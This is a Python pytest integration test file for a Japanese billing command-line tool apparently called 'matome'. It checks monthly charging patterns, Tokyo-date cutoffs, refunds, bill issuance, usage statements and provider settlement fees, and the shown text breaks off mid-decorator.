"""Billing documents through the command line: a small command log in, JSON documents out.

Every case writes a short contract-2 command log (JSON Lines, built with
:mod:`tests.integration.logs`) to ``tmp_path``, applies it with ``matome run LOG --db DB`` and
reads the documents back with ``matome bill|statement|providers|settle|contacts|continuity|
status|rebuild --json --db DB``; each runs on an SQLite file and on PostgreSQL (docs/rules.md
§4–§8, docs/contract.md "Documents out" and "Command line").

The CLI runs in-process (``matome.cli.main``) with the tests' cheap PBKDF2 round count, and one
test runs the real ``matome`` console script in a subprocess with production settings.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from matome.engine import Engine
from tests.conftest import TEST_ITERATIONS
from tests.integration.logs import (
    BY_NUMBER,
    BY_PHONE,
    EAST,
    JAN_TO_APR,
    LABEL,
    LINE,
    LINE2,
    LINE3,
    PID,
    PID2,
    Doc,
    Entry,
    Matome,
    buy,
    cancel,
    catalog,
    change_billing,
    change_limit,
    change_line,
    delete,
    issue,
    jst,
    lift,
    line,
    passport,
    provider,
    refund,
    regulate,
    service,
    set_fee,
    world,
)

# ---------------------------------------------------------------------------------------------
# §4: the six charging patterns of the monthly-flat table

PATTERNS: dict[str, tuple[list[Entry], list[int]]] = {
    # purchase in N, cancel in N+2 → N, N+1, N+2
    "1-purchase-N-cancel-N+2": (
        [buy(jst("01-15"), name="s"), cancel(jst("03-10"), "s")],
        [525, 525, 525, 0],
    ),
    # purchase in N, cancel in N+1 → N, N+1
    "2-purchase-N-cancel-N+1": (
        [buy(jst("01-15"), name="s"), cancel(jst("02-10"), "s")],
        [525, 525, 0, 0],
    ),
    # purchase and cancel in N → N
    "3-purchase-and-cancel-N": (
        [buy(jst("01-15"), name="s"), cancel(jst("01-20"), "s")],
        [525, 0, 0, 0],
    ),
    # purchase in N+1, in N+2 cancel then purchase again → N+1, N+2 once (and on while held)
    "4-cancel-then-rebuy-N+2": (
        [buy(jst("02-10"), name="s"), cancel(jst("03-05"), "s"), buy(jst("03-20"), name="t")],
        [0, 525, 525, 525],
    ),
    # the same case, churned: cancel/re-buy three times in N+2, the last one cancelled too
    "5-cancel-rebuy-churn-N+2": (
        [
            buy(jst("02-10"), name="s"),
            cancel(jst("03-05"), "s"),
            buy(jst("03-06"), name="t"),
            cancel(jst("03-07"), "t"),
            buy(jst("03-08"), name="u"),
            cancel(jst("03-31", "23:59:59"), "u"),
        ],
        [0, 525, 525, 0],
    ),
    # purchase in N, cancel on the 1st of N+1 → N only
    "6-cancel-on-the-1st": (
        [buy(jst("01-15"), name="s"), cancel(jst("02-01", "08:00:00"), "s")],
        [525, 0, 0, 0],
    ),
    # the exception: purchase and cancel on the same 1st → that month is charged
    "6-exception-purchase-and-cancel-on-the-1st": (
        [buy(jst("02-01", "00:10:00"), name="s"), cancel(jst("02-01", "23:00:00"), "s")],
        [0, 525, 0, 0],
    ),
}


@pytest.mark.parametrize("pattern", list(PATTERNS))
def test_monthly_flat_is_charged_per_the_six_patterns(matome: Matome, pattern: str) -> None:
    """docs/rules.md §4 (monthly flat, patterns 1–6 and the 1st-day exception): the full price for
    each charged month, never pro-rated, and at most once per (ID, service, month)."""
    commands, expected = PATTERNS[pattern]
    matome.run(*world(), *commands)
    bills = [matome.bill(LINE, month) for month in JAN_TO_APR]
    assert [b["subtotal"] for b in bills] == expected
    for bill, amount in zip(bills, expected, strict=True):
        # never pro-rated, never doubled: a charged month has exactly one 525 charge
        assert [c["amount"] for c in bill["charges"]] == ([525] if amount else [])
        assert all(c["pricing"] == "monthly" and c["quantity"] == 1 for c in bill["charges"])


def test_rebuy_in_same_month_is_charged_once_and_the_earliest_subscription_carries_it(
    matome: Matome,
) -> None:
    """docs/rules.md §4 (Decision, patterns 4 and 5): a month with a cancel and a re-purchase is
    charged once; the earlier subscription carries it, the later one from the next month."""
    matome.run(
        *world(),
        buy(jst("02-10"), name="s"),
        cancel(jst("03-05"), "s"),
        buy(jst("03-20"), name="t"),
    )
    s, t = matome.receipts["s"], matome.receipts["t"]
    assert [c["receipt"] for c in matome.bill(LINE, "2024-03")["charges"]] == [s]
    assert [c["receipt"] for c in matome.bill(LINE, "2024-04")["charges"]] == [t]


# ---------------------------------------------------------------------------------------------
# §4: the billing month is the Tokyo calendar month


@pytest.mark.parametrize(
    ("cancelled_at", "expected"),
    [
        pytest.param("2024-02-29T15:30:00+00:00", [525, 525, 0], id="00:30-JST-on-the-1st"),
        pytest.param("2024-02-29T14:59:59+00:00", [525, 525, 0], id="23:59:59-JST-last-day"),
        pytest.param("2024-03-01T15:00:00+00:00", [525, 525, 525], id="00:00-JST-on-the-2nd"),
    ],
)
def test_cancellation_given_in_utc_is_judged_on_the_tokyo_date(
    matome: Matome, cancelled_at: str, expected: list[int]
) -> None:
    """docs/rules.md §4 (billing month in Asia/Tokyo; cancellation on the 1st): 2024-02-29T15:30Z is
    2024-03-01 00:30 JST, a cancellation on the 1st, so March is not charged."""
    matome.run(*world(), buy(jst("01-15"), name="s"), cancel(cancelled_at, "s"))
    assert matome.subtotals(months=JAN_TO_APR[:3]) == expected


@pytest.mark.parametrize("svc", ["back", "item"])
def test_purchase_at_tokyo_midnight_given_in_utc_is_charged_in_the_new_month(
    matome: Matome, svc: str
) -> None:
    """docs/rules.md §4 (billing month in Asia/Tokyo): a purchase at 2024-02-29T15:30Z (2024-03-01
    00:30 JST) is charged in March, not February, and starts on 2024-03-01."""
    matome.run(*world(), buy("2024-02-29T15:30:00+00:00", svc))
    price = 525 if svc == "back" else 440
    assert matome.bill(LINE, "2024-02")["subtotal"] == 0
    march = matome.bill(LINE, "2024-03")
    assert march["subtotal"] == price
    assert [c["started_on"] for c in march["charges"]] == ["2024-03-01"]


# ---------------------------------------------------------------------------------------------
# §7: the bill document


def test_guide_worked_example_rows_per_provider_sorted_by_code(matome: Matome) -> None:
    """docs/rules.md §7 (worked example): A "back service" 525; B "anime 1" 300 + "anime 2" 300 →
    rows A 525, B 600 labelled フレッツ・まとめて支払い料金, subtotal 1,125, sorted by code."""
    matome.run(
        *world(),
        buy(jst("01-15", "20:00:00"), "anime1", provider="B"),
        buy(jst("01-15", "20:05:00"), "back"),
        buy(jst("01-15", "20:06:00"), "anime2", provider="B"),
    )
    bill = matome.bill(LINE, "2024-01")
    assert bill["customer_id"] == LINE
    assert bill["month"] == "2024-01"
    assert bill["status"] == "preview"
    assert bill["rows"] == [
        {"provider": "A", "provider_name": "A Co.", "label": LABEL, "amount": 525},
        {"provider": "B", "provider_name": "B Co.", "label": LABEL, "amount": 600},
    ]
    assert bill["subtotal"] == 1125 == sum(r["amount"] for r in bill["rows"])
    assert sorted((c["provider"], c["service"], c["amount"]) for c in bill["charges"]) == [
        ("A", "back", 525),
        ("B", "anime1", 300),
        ("B", "anime2", 300),
    ]
    for charge in bill["charges"]:
        assert {
            "receipt",
            "passport_id",
            "provider",
            "service",
            "pricing",
            "unit_price",
            "quantity",
            "amount",
            "started_on",
        } <= set(charge)
        assert charge["passport_id"] == PID
        assert charge["started_on"] == "2024-01-15"
        assert charge["unit_price"] * charge["quantity"] == charge["amount"]


def test_month_without_charges_has_no_rows_and_zero_subtotal(matome: Matome) -> None:
    """docs/contract.md ("Bill of one line for one month"), docs/rules.md §7: a month with no
    charges yields a bill with no rows and subtotal 0 (also a month before the line opened)."""
    matome.run(*world())
    for month in ("2023-11", "2024-01"):
        bill = matome.bill(LINE, month)
        assert bill["rows"] == []
        assert bill["charges"] == []
        assert bill["subtotal"] == 0


def test_per_purchase_is_charged_once_in_its_month_every_time_bought(matome: Matome) -> None:
    """docs/rules.md §4 (per purchase): each purchase is charged once, in the month it was made;
    buying the same item again is charged again."""
    matome.run(
        *world(),
        buy(jst("01-10"), "item"),
        buy(jst("01-20"), "item"),
        buy(jst("02-05"), "item"),
    )
    january, february, march = (matome.bill(LINE, m) for m in JAN_TO_APR[:3])
    assert [january["subtotal"], february["subtotal"], march["subtotal"]] == [880, 440, 0]
    assert [c["amount"] for c in january["charges"]] == [440, 440]
    assert len({c["receipt"] for c in january["charges"]}) == 2
    assert all(c["pricing"] == "per_purchase" for c in january["charges"])
    assert january["rows"] == [
        {"provider": "A", "provider_name": "A Co.", "label": LABEL, "amount": 880}
    ]


def test_refund_is_charged_negatively_in_the_month_recorded(matome: Matome) -> None:
    """docs/rules.md §4 (per purchase): a provider's refund is its own event, charged negatively in
    the month it is recorded; the purchase month is not rewritten."""
    matome.run(
        *world(),
        buy(jst("01-20"), "item", name="m"),
        refund(jst("02-10"), "m", 200),
        refund(jst("02-11"), "m", 241, refused="refund_exceeds_charge"),
    )
    assert matome.bill(LINE, "2024-01")["subtotal"] == 440
    february = matome.bill(LINE, "2024-02")
    assert february["subtotal"] == -200
    assert february["rows"] == [
        {"provider": "A", "provider_name": "A Co.", "label": LABEL, "amount": -200}
    ]
    [charge] = february["charges"]
    assert charge["receipt"] == matome.receipts["m"]
    assert charge["amount"] == -200
    assert matome.bill(LINE, "2024-03")["subtotal"] == 0


def test_line_with_ended_service_still_has_its_past_bills(matome: Matome) -> None:
    """docs/rules.md §6–§7, docs/contract.md ("Command line"): a line whose service has ended
    (access line cancelled) still has its past bills; the cancellation month is charged."""
    matome.run(
        *world(),
        buy(jst("01-15")),
        change_line(jst("03-10"), "cancellation"),
        buy(jst("03-11"), "item", refused="unknown_passport"),
    )
    bills = [matome.bill(LINE, m) for m in JAN_TO_APR]
    assert [b["subtotal"] for b in bills] == [525, 525, 525, 0]
    assert bills[0]["rows"] == [
        {"provider": "A", "provider_name": "A Co.", "label": LABEL, "amount": 525}
    ]


# ---------------------------------------------------------------------------------------------
# §5: regulation ends charges


@pytest.mark.parametrize(
    ("regulated_at", "expected"),
    [
        pytest.param(jst("02-15"), [825, 825, 0, 0], id="mid-month"),
        pytest.param(jst("02-01", "09:00:00"), [825, 0, 0, 0], id="on-the-1st"),
        pytest.param("2024-01-31T15:00:00+00:00", [825, 0, 0, 0], id="on-the-1st-given-in-utc"),
    ],
)
def test_regulation_cancels_subscriptions_at_the_regulation_instant(
    matome: Matome, regulated_at: str, expected: list[int]
) -> None:
    """docs/rules.md §5: regulation cancels every subscription on the line at its instant, so the
    regulation month is charged — unless it is the 1st; lifting does not revive them."""
    matome.run(
        *world(),
        buy(jst("01-15")),
        buy(jst("01-16"), "anime1", provider="B"),
        regulate(regulated_at),
        buy(jst("02-20"), "item", refused="line_regulated"),
        lift(jst("02-25")),
    )
    assert matome.subtotals() == expected


# ---------------------------------------------------------------------------------------------
# §6: line changes and the continuity table


def test_line_changes_that_end_the_service_stop_charges_and_fill_the_continuity_table(
    matome: Matome,
) -> None:
    """docs/rules.md §6: a menu change and an access-line cancellation end the service — monthly
    subscriptions cancelled and Passport IDs deleted at that instant — and the continuity table
    lists each change with kept/cancelled/deleted."""
    matome.run(
        *world(),
        line(LINE2),
        passport(PID2, LINE2),
        buy(jst("01-15"), name="a"),
        buy(jst("01-15"), "anime1", provider="B", pid=PID2, name="b"),
        change_line(jst("02-10"), "menu_change", LINE, new_kind="hikari_light"),
        change_line(jst("02-12"), "cancellation", LINE2),
    )
    assert matome.subtotals(LINE) == [525, 525, 0, 0]
    assert matome.subtotals(LINE2) == [300, 300, 0, 0]
    assert matome.doc("continuity") == [
        {
            "customer_id": LINE,
            "at": "2024-02-10T10:00:00+09:00",
            "change": "menu_change",
            "new_customer_id": None,
            "kept": False,
            "cancelled": [matome.receipts["a"]],
            "deleted": [PID],
        },
        {
            "customer_id": LINE2,
            "at": "2024-02-12T10:00:00+09:00",
            "change": "cancellation",
            "new_customer_id": None,
            "kept": False,
            "cancelled": [matome.receipts["b"]],
            "deleted": [PID2],
        },
    ]
    assert [r["customer_id"] for r in matome.doc("continuity", LINE2)] == [LINE2]


def test_renumbering_change_ends_the_service_and_names_the_new_customer_id(
    matome: Matome,
) -> None:
    """docs/rules.md §6: a relocation with a changed customer ID does not keep the service; the
    table records the new customer ID, and the new line starts without charges."""
    matome.run(
        *world(),
        buy(jst("01-15"), name="a"),
        change_line(jst("02-01", "09:00:00"), "relocation", new_customer_id=LINE3),
    )
    [row] = matome.doc("continuity")
    assert row["change"] == "relocation"
    assert row["new_customer_id"] == LINE3
    assert row["kept"] is False
    assert row["cancelled"] == [matome.receipts["a"]]
    assert row["deleted"] == [PID]
    # ended on the 1st of February: February is not charged (§4 pattern 6 applies)
    assert matome.subtotals(LINE) == [525, 0, 0, 0]
    assert matome.subtotals(LINE3) == [0, 0, 0, 0]


def test_kept_change_keeps_charging(matome: Matome) -> None:
    """docs/rules.md §6: a relocation with the customer ID unchanged (and a rename) keeps the
    service: the subscription keeps being billed and the ID keeps buying."""
    matome.run(
        *world(),
        buy(jst("01-15")),
        change_line(jst("02-10"), "relocation"),
        change_line(jst("03-10"), "rename"),
        buy(jst("03-11"), "item"),
    )
    assert matome.subtotals() == [525, 525, 965, 525]
    rows = matome.doc("continuity")
    assert [(r["change"], r["kept"], r["cancelled"], r["deleted"]) for r in rows] == [
        ("relocation", True, [], []),
        ("rename", True, [], []),
    ]


# ---------------------------------------------------------------------------------------------
# §7: billing account and issue schedule


@pytest.mark.parametrize(
    ("changed_at", "february_account"),
    [
        pytest.param(jst("02-20"), "new", id="during-the-month"),
        pytest.param(jst("03-01", "00:00:00"), "old", id="on-the-1st-of-next-month"),
        pytest.param("2024-02-29T15:00:00+00:00", "old", id="tokyo-midnight-given-in-utc"),
        pytest.param("2024-02-29T14:59:59+00:00", "new", id="last-second-of-the-month"),
    ],
)
def test_bill_goes_to_the_billing_account_in_force_at_month_end(
    matome: Matome, changed_at: str, february_account: str
) -> None:
    """docs/rules.md §7 (Decision): month M's charges go to the billing account in force at the end
    of month M (Tokyo), and its issue date follows that account's schedule."""
    matome.run(
        *world(BY_NUMBER),
        buy(jst("01-15")),
        change_billing(changed_at, BY_PHONE, "billing_phone_change"),
    )
    accounts = {"old": (BY_NUMBER, "2024-03-17"), "new": (BY_PHONE, "2024-03-22")}
    february = matome.bill(LINE, "2024-02")
    assert (february["billing_account"], february["issue_date"]) == accounts[february_account]
    assert february["subtotal"] == 525
    assert matome.bill(LINE, "2024-01")["billing_account"] == BY_NUMBER
    assert matome.bill(LINE, "2024-03")["billing_account"] == BY_PHONE


@pytest.mark.parametrize(
    ("representative_billing", "issue_date"),
    [
        pytest.param(BY_NUMBER, "17", id="customer-number"),
        pytest.param(BY_PHONE, "22", id="phone-bill"),
    ],
)
def test_issue_schedule_follows_the_billing_method(
    matome: Matome, representative_billing: Entry, issue_date: str
) -> None:
    """docs/rules.md §7 (schedule): a "00" customer number is billed around the 17th of M+1, a
    phone bill around the 22nd of M+1; a consolidated line follows its representative."""
    consolidated = {"method": "consolidated", "representative": LINE}
    matome.run(
        *world(representative_billing),
        line(LINE2, consolidated),
        passport(PID2, LINE2),
        buy(jst("01-15")),
        buy(jst("01-16"), "back", pid=PID2),
    )
    for customer_id in (LINE, LINE2):
        january = matome.bill(customer_id, "2024-01")
        assert january["issue_date"] == f"2024-02-{issue_date}"
        assert january["subtotal"] == 525
        # December's bill is issued in the January of the next year
        assert matome.bill(customer_id, "2023-12")["issue_date"] == f"2024-01-{issue_date}"
    assert matome.bill(LINE, "2024-01")["billing_account"] == representative_billing
    assert matome.bill(LINE2, "2024-01")["billing_account"] == consolidated


# ---------------------------------------------------------------------------------------------
# §7: closing a month


def test_issued_bill_is_immutable_and_its_month_closed(matome: Matome) -> None:
    """docs/rules.md §7: ``issue_bills`` only after the month has ended in Tokyo; the bill becomes
    "issued" and immutable — commands dated in that month are refused (month_closed), closing
    again changes nothing, and later months stay previews."""
    matome.run(
        *world(),
        buy(jst("01-15"), name="s"),
        buy(jst("01-20"), "item", name="m"),
        issue("2024-01-31T14:59:59+00:00", "2024-01", refused="invalid_input"),
    )
    preview = matome.bill(LINE, "2024-01")
    assert preview["status"] == "preview"
    matome.run(
        issue("2024-01-31T15:00:00+00:00", "2024-01"),
        buy(jst("01-31", "23:00:00"), "item", refused="month_closed"),
        refund(jst("01-31", "23:30:00"), "m", 100, refused="month_closed"),
        buy("2024-01-31T14:00:00+00:00", "item", pid="nobody", refused="month_closed"),
    )
    issued = matome.bill(LINE, "2024-01")
    assert issued["status"] == "issued"
    assert {k: v for k, v in issued.items() if k != "status"} == {
        k: v for k, v in preview.items() if k != "status"
    }
    matome.run(
        cancel(jst("02-01", "08:00:00"), "s"),
        refund(jst("02-02"), "m", 100),
        change_billing(jst("02-03"), BY_PHONE, "billing_phone_change"),
        issue(jst("02-04"), "2024-01"),
    )
    assert matome.bill(LINE, "2024-01") == issued
    february = matome.bill(LINE, "2024-02")
    assert february["status"] == "preview"
    assert february["subtotal"] == -100


def test_issuing_a_month_closes_the_months_before_it(matome: Matome) -> None:
    """docs/rules.md §7: closing March closes every month through March; their bills are issued."""
    matome.run(*world(), buy(jst("01-15")), issue(jst("04-01", "09:00:00"), "2024-03"))
    for month in JAN_TO_APR[:3]:
        assert matome.bill(LINE, month)["status"] == "issued"
    assert matome.bill(LINE, "2024-04")["status"] == "preview"
    matome.run(buy(jst("02-10"), "item", refused="month_closed"))


# ---------------------------------------------------------------------------------------------
# Documents that do not exist


@pytest.mark.parametrize(
    "args",
    [
        pytest.param(("bill", "CAF9999999999", "2024-01"), id="bill"),
        pytest.param(("statement", "CAF9999999999", "2024-01"), id="statement"),
        pytest.param(("contacts", "CAF9999999999"), id="contacts"),
        pytest.param(("status", "CAF9999999999"), id="status"),
    ],
)
def test_unknown_customer_id_is_an_unknown_line_error(
    matome: Matome, args: tuple[str, ...]
) -> None:
    """docs/contract.md ("Command line"): a document asked for an unknown customer ID prints
    ``{"error": {"code": "unknown_line", ...}}`` and exits 1."""
    matome.run(*world())
    code, document = matome.call(*args)
    assert code == 1
    assert set(document) == {"error"}
    assert document["error"]["code"] == "unknown_line"
    assert document["error"]["message"]


@pytest.mark.parametrize(
    "args",
    [
        pytest.param(("bill", LINE, "2024-13"), id="month-13"),
        pytest.param(("bill", LINE, "2024-1"), id="one-digit-month"),
        pytest.param(("bill", LINE, "202401"), id="no-dash"),
        pytest.param(("statement", LINE, "2024/01"), id="statement-slash"),
        pytest.param(("providers", "Jan-2024"), id="providers"),
        pytest.param(("settle", "2024-00"), id="settle"),
        pytest.param(("bill", "caf0000000001", "2024-01"), id="lower-case-customer-id"),
        pytest.param(("statement", LINE, "2024-01", "--page", "0"), id="page-0"),
        pytest.param(("status", "CAF000000000"), id="status-short-customer-id"),
    ],
)
def test_malformed_request_is_invalid_input(matome: Matome, args: tuple[str, ...]) -> None:
    """docs/contract.md ("Command line"), docs/rules.md §1 (formats): a malformed month (or customer
    ID, or page) prints ``{"error": {"code": "invalid_input", ...}}`` and exits 1."""
    matome.run(*world())
    code, document = matome.call(*args)
    assert code == 1
    assert document["error"]["code"] == "invalid_input"


# ---------------------------------------------------------------------------------------------
# §7: usage statement and provider contacts; §8: provider totals and settlement


def test_statement_pages_and_filters_by_passport(matome: Matome) -> None:
    """docs/rules.md §7 (usage statement): searched by month, optionally one Passport ID, paged;
    columns receipt, Passport ID, provider name, unit price, quantity, amount, start date."""
    matome.run(
        *world(),
        passport(PID2, LINE, at="2023-12-03T10:00:00+09:00"),
        buy(jst("01-10"), "back", name="a"),
        buy(jst("01-11"), "anime1", provider="B", pid=PID2, name="b"),
        buy(jst("01-12"), "item", name="c"),
        buy(jst("02-12"), "item"),
    )
    first = matome.doc("statement", LINE, "2024-01", "--per-page", "2")
    second = matome.doc("statement", LINE, "2024-01", "--per-page", "2", "--page", "2")
    third = matome.doc("statement", LINE, "2024-01", "--per-page", "2", "--page", "3")
    assert (first["total"], first["page"], len(first["rows"])) == (3, 1, 2)
    assert (second["total"], second["page"], len(second["rows"])) == (3, 2, 1)
    assert (third["total"], third["page"], third["rows"]) == (3, 3, [])
    rows = first["rows"] + second["rows"]
    assert sorted(r["receipt"] for r in rows) == sorted(matome.receipts[n] for n in "abc")
    whole = matome.doc("statement", LINE, "2024-01")
    assert whole["rows"] == rows
    for row in rows:
        assert {
            "receipt",
            "passport_id",
            "provider_name",
            "unit_price",
            "quantity",
            "amount",
            "started_on",
        } <= set(row)
    by_receipt = {r["receipt"]: r for r in rows}
    b = by_receipt[matome.receipts["b"]]
    assert (b["passport_id"], b["provider_name"], b["unit_price"], b["quantity"]) == (
        PID2,
        "B Co.",
        300,
        1,
    )
    assert (b["amount"], b["started_on"]) == (300, "2024-01-11")
    assert sum(r["amount"] for r in rows) == matome.bill(LINE, "2024-01")["subtotal"] == 1265

    only = matome.doc("statement", LINE, "2024-01", "--passport", PID)
    assert only["total"] == 2
    assert {r["passport_id"] for r in only["rows"]} == {PID}
    assert {r["receipt"] for r in only["rows"]} == {matome.receipts["a"], matome.receipts["c"]}
    # A Passport ID the store has never known is an error, not an empty page (issue #12).
    code, refused = matome.call("statement", LINE, "2024-01", "--passport", "someone")
    assert (code, refused["error"]["code"]) == (1, "unknown_passport")


def test_contacts_lists_only_the_providers_the_line_bought_from(matome: Matome) -> None:
    """docs/rules.md §7 (provider contacts): name and contact of the providers the line has bought
    from — not every registered provider, and each once."""
    matome.run(
        *world(),
        buy(jst("01-10"), "anime1", provider="B"),
        buy(jst("01-11"), "item"),
        buy(jst("01-12"), "item"),
    )
    assert matome.doc("contacts", LINE) == [
        {"provider": "A", "name": "A Co.", "contact": "0120-000-065"},
        {"provider": "B", "name": "B Co.", "contact": "0120-000-066"},
    ]


def _two_lines_buying() -> list[Entry]:
    return [
        *world(),
        line(LINE2, BY_PHONE),
        passport(PID2, LINE2),
        buy(jst("01-10"), "back"),
        buy(jst("01-11"), "anime1", provider="B"),
        buy(jst("01-12"), "back", pid=PID2),
    ]


def test_provider_totals_across_lines(matome: Matome) -> None:
    """docs/rules.md §8, docs/contract.md ("Other documents"): provider totals for a month across
    all lines, ``[{"provider", "lines", "amount"}]`` sorted by provider."""
    matome.run(*_two_lines_buying())
    assert matome.doc("providers", "2024-01") == [
        {"provider": "A", "lines": 2, "amount": 1050},
        {"provider": "B", "lines": 1, "amount": 300},
    ]
    assert matome.doc("providers", "2023-11") == []


def test_settlement_is_per_provider_and_operator_with_the_fee_before_tax(matome: Matome) -> None:
    """docs/rules.md §8 (Decisions), docs/contract.md ("Other documents": settlement), contract 2:
    one entry per provider and operator ``{provider, operator, gross, lines, average_per_line, fee,
    tax, net, status}``.  2024 usage under the 2012 schedule: averages up to 900 pay the existing
    fee — 30 yen per line before tax when the average is under 600 (the source's 31.5 yen is 30 yen
    + 5% tax) — plus 10% consumption tax, each rounded down.  Contract 1 added 10% to 31.5 yen
    (tax counted twice: 69 and 34 below)."""
    matome.run(*_two_lines_buying())
    assert matome.doc("settle", "2024-01") == [
        # 2 lines × 30 = 60; tax 6; net 1050 − 66
        {
            "provider": "A",
            "operator": "west",
            "gross": 1050,
            "lines": 2,
            "average_per_line": "525.00",
            "fee": 60,
            "tax": 6,
            "net": 984,
            "status": "settled",
            "preview": True,  # the month is not closed: an addition (issue #12)
        },
        # 1 line × 30 = 30; tax 3; net 300 − 33
        {
            "provider": "B",
            "operator": "west",
            "gross": 300,
            "lines": 1,
            "average_per_line": "300.00",
            "fee": 30,
            "tax": 3,
            "net": 267,
            "status": "settled",
            "preview": True,  # the month is not closed: an addition (issue #12)
        },
    ]
    assert matome.doc("settle", "2023-11") == []


def test_east_and_west_lines_settle_apart(matome: Matome) -> None:
    """docs/rules.md §8 (Decision): the average per line is computed per provider and per operator;
    the same provider gets one entry for its East lines and one for its West lines."""
    matome.run(
        *world(),
        line(EAST, BY_PHONE),
        passport(PID2, EAST),
        buy(jst("01-10"), "back"),
        buy(jst("01-11"), "item", pid=PID2),
        buy(jst("01-12"), "anime1", provider="B", pid=PID2),
    )
    settlement = matome.doc("settle", "2024-01")
    assert [(s["provider"], s["operator"], s["gross"], s["lines"]) for s in settlement] == [
        ("A", "east", 440, 1),
        ("A", "west", 525, 1),
        ("B", "east", 300, 1),
    ]
    assert [(s["fee"], s["tax"], s["net"]) for s in settlement] == [
        (30, 3, 407),
        (30, 3, 492),
        (30, 3, 267),
    ]
    # Provider totals still add both operators' lines up.
    assert matome.doc("providers", "2024-01") == [
        {"provider": "A", "lines": 2, "amount": 965},
        {"provider": "B", "lines": 1, "amount": 300},
    ]


def _mid_tier_month() -> list[Entry]:
    """Provider A averages 965 yen per line in January (the 901–1,500 tier, whose flat fee the
    sources do not state); provider B averages 300."""
    return [
        *world(),
        buy(jst("01-10"), "back"),
        buy(jst("01-11"), "item"),
        buy(jst("01-12"), "anime1", provider="B"),
    ]


def test_unconfigured_flat_fee_is_listed_per_provider_and_the_others_still_settle(
    matome: Matome,
) -> None:
    """docs/rules.md §8, contract 2: a provider whose tier has no amount is listed with status
    ``fee_not_configured`` (null fee, tax and net); the other providers still settle, and
    ``matome settle`` exits 0 (contract 1 refused the whole month)."""
    matome.run(*_mid_tier_month())
    code, settlement = matome.call("settle", "2024-01")
    assert code == 0
    assert settlement == [
        {
            "provider": "A",
            "operator": "west",
            "gross": 965,
            "lines": 1,
            "average_per_line": "965.00",
            "fee": None,
            "tax": None,
            "net": None,
            "status": "fee_not_configured",
            "preview": True,  # the month is not closed: an addition (issue #12)
        },
        {
            "provider": "B",
            "operator": "west",
            "gross": 300,
            "lines": 1,
            "average_per_line": "300.00",
            "fee": 30,
            "tax": 3,
            "net": 267,
            "status": "settled",
            "preview": True,  # the month is not closed: an addition (issue #12)
        },
    ]
    code, table, _ = matome.text("settle", "2024-01")
    assert code == 0
    assert "fee_not_configured" in table


def test_set_fee_configures_the_flat_fee_from_its_month_on(matome: Matome) -> None:
    """docs/rules.md §8, contract 2: ``set_fee`` sets the 2012 flat fee per line (before tax) for an
    operator from ``effective_from`` on (an event: settlements replay); West falls back to
    East's; a month before it stays unconfigured; a fee effective from a closed month is
    ``month_closed``."""
    matome.run(
        *_mid_tier_month(),
        buy(jst("02-11"), "item"),
        set_fee(jst("02-20"), "east", "2024-02", 50),
    )
    # February: back 525 + item 440 = 965 on one West line; West uses East's 50 yen per line.
    [february_a, february_b] = matome.doc("settle", "2024-02")
    assert february_a == {
        "provider": "A",
        "operator": "west",
        "gross": 965,
        "lines": 1,
        "average_per_line": "965.00",
        "fee": 50,
        "tax": 5,
        "net": 910,
        "status": "settled",
        "preview": True,  # the month is not closed: an addition (issue #12)
    }
    assert (february_b["provider"], february_b["fee"], february_b["status"]) == ("B", 30, "settled")
    assert matome.doc("settle", "2024-01")[0]["status"] == "fee_not_configured"
    matome.run(
        set_fee(jst("02-21"), "west", "2024-01", 80),
        issue(jst("03-01", "09:00:00"), "2024-02"),
        set_fee(jst("03-02"), "west", "2024-02", 90, refused="month_closed"),
        set_fee(jst("03-02"), "west", "2024-13", 90, refused="invalid_input"),
        set_fee(jst("03-02"), "north", "2024-04", 90, refused="invalid_input"),
        set_fee(jst("03-02"), "west", "2024-04", 100_000_000, refused="invalid_input"),
    )
    # West's own fee (from January) now takes precedence over East's for West lines.
    assert [
        (s["provider"], s["fee"], s["tax"], s["net"]) for s in matome.doc("settle", "2024-01")
    ] == [
        ("A", 80, 8, 877),
        ("B", 30, 3, 267),
    ]
    assert matome.doc("settle", "2024-02")[0]["fee"] == 80
    # set_fee is an event: a rebuilt store settles the same.
    before = [matome.doc("settle", m) for m in ("2024-01", "2024-02")]
    matome.doc("rebuild")
    assert [matome.doc("settle", m) for m in ("2024-01", "2024-02")] == before


def test_settlement_of_a_refund_month_formats_a_negative_average(matome: Matome) -> None:
    """docs/rules.md §4, §8: refunds recorded in a month with no sales make the provider's gross
    negative; no fee and no tax are taken, and the average per line is still the true average."""
    matome.run(
        *world(),
        line(LINE2),
        passport(PID2, LINE2),
        buy(jst("01-10"), "item", name="m"),
        buy(jst("01-11"), "item", pid=PID2, name="n"),
        refund(jst("02-10"), "m", 100),
        refund(jst("02-11"), "n", 101),
    )
    assert matome.doc("settle", "2024-02") == [
        {
            "provider": "A",
            "operator": "west",
            "gross": -201,
            "lines": 2,
            "average_per_line": "-100.50",
            "fee": 0,
            "tax": 0,
            "net": -201,
            "status": "settled",
            "preview": True,  # the month is not closed: an addition (issue #12)
        }
    ]


# ---------------------------------------------------------------------------------------------
# Contract 2: physical goods, quantities, refund caps, item changes, the usage status


def _goods(at: str) -> list[Entry]:
    return [
        provider("G", "Goods Co.", at=at, goods="physical"),
        service("G", "box", "お菓子の箱", "per_purchase", 1200, at=at),
    ]


def test_west_lines_buy_physical_goods(matome: Matome) -> None:
    """docs/rules.md §1, design "Physical goods", contract 2: NTT West's guide covers goods, so a
    West line buys them at any time (contract 1 refused them with goods_not_offered)."""
    matome.run(
        *_goods("2011-01-04T09:00:00+09:00"),
        line(LINE, at="2011-01-05T10:00:00+09:00"),
        passport(PID, LINE, at="2011-01-06T10:00:00+09:00"),
        buy(jst("01-10", year=2011), "box", provider="G"),
        buy(jst("03-10"), "box", provider="G"),
    )
    assert matome.bill(LINE, "2011-01")["rows"] == [
        {"provider": "G", "provider_name": "Goods Co.", "label": LABEL, "amount": 1200}
    ]
    assert matome.bill(LINE, "2024-03")["subtotal"] == 1200


def test_east_lines_buy_physical_goods_from_2012_06_05(matome: Matome) -> None:
    """docs/rules.md §1, design "Physical goods": NTT East sells physical goods from 2012-06-05;
    before that a purchase of goods on an East line is ``goods_not_offered``."""
    matome.run(
        *_goods("2012-01-04T09:00:00+09:00"),
        line(EAST, BY_PHONE, at="2012-01-05T10:00:00+09:00"),
        passport(PID, EAST, at="2012-01-06T10:00:00+09:00"),
        buy("2012-06-04T23:59:59+09:00", "box", provider="G", refused="goods_not_offered"),
        buy("2012-06-05T00:00:00+09:00", "box", provider="G"),
    )
    assert matome.bill(EAST, "2012-06")["subtotal"] == 1200


@pytest.mark.parametrize(
